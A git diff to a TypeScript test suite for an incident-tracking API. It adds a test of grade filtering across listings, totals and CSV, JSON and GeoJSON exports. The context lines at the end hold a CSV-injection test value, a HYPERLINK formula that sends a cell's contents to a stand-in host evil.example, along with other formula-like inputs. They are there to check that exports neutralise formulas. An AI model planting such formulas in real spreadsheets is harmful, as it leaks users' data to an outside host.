@@ -248,6 +248,33 @@ export function runApiSuite(name: string, open: () => Promise<Store>): void {
       expect(history.json.revisions.some((r: Json) => r.actor === 'editor-alice' && r.why === 'same strike, two reports')).toBe(true)
     })
 
+    it('filters incidents, totals and every export by grade', async () => {
+      const made: { incident: string; claim: string }[] = []
+      for (const n of [3, 4]) {
+        const p = await call('POST', '/api/sources', { token: 'editor', json: article(n, '2018-03-0' + String(n)) })
+        const claim = p.json.claims[0].id as string
+        const m = await call('POST', `/api/claims/${claim}/move`, { token: 'editor', json: { incidentId: null, reason: 'new strike' } })
+        made.push({ incident: m.json.incidentId as string, claim })
+      }
+      await store.incidents.update(made[1]!.incident as never, { grade: 'fair' }, { actor: 'test', why: 'graded' })
+      const window = 'from=2018-03-01&to=2018-03-31'
+      const listed = await call('GET', `/api/incidents?${window}&grade=fair`)
+      expect(listed.json).toMatchObject({ total: 1, items: [{ id: made[1]!.incident, grade: 'fair' }] })
+      expect((await call('GET', `/api/incidents?${window}`)).json.total).toBe(2)
+      const totals = await call('GET', `/api/totals?groupBy=year&${window}&grade=fair`)
+      expect(totals.json.rows).toEqual([{ group: '2018', measure: 'killed', category: 'total', low: 4, high: 4, incidents: 1 }])
+      const csv = parseCsv((await call('GET', `/api/export/incidents.csv?${window}&grade=fair`)).text)
+      expect(csv.slice(1).map((r) => [r[0], r[csv[0]!.indexOf('grade')]])).toEqual([[made[1]!.incident, 'fair']])
+      const claims = parseCsv((await call('GET', `/api/export/claims.csv?${window}&grade=fair`)).text)
+      expect(claims.slice(1).map((r) => r[0])).toEqual([made[1]!.claim])
+      const json = await call('GET', `/api/export/incidents.json?${window}&grade=fair`)
+      expect(json.json).toMatchObject({ filter: { grade: 'fair' }, incidents: [{ id: made[1]!.incident }] })
+      const geo = await call('GET', `/api/export/incidents.geojson?${window}&grade=weak`)
+      expect(geo.json.features).toEqual([])
+      const bad = await call('GET', `/api/incidents?grade=certain`)
+      expect({ status: bad.status, field: bad.json.error.field }).toEqual({ status: 400, field: 'query.grade' })
+    })
+
     it('exports CSV with no cell a spreadsheet would execute, and GeoJSON with precision', async () => {
       const evil = `=HYPERLINK("http://evil.example/?"&A1,"click") ${name} killed 6 people`
       const p = await call('POST', '/api/sources', { token: 'editor', json: { text: evil, published: '2017-02-02', publisher: '@SUM(1+1)', title: '-2+3' } })
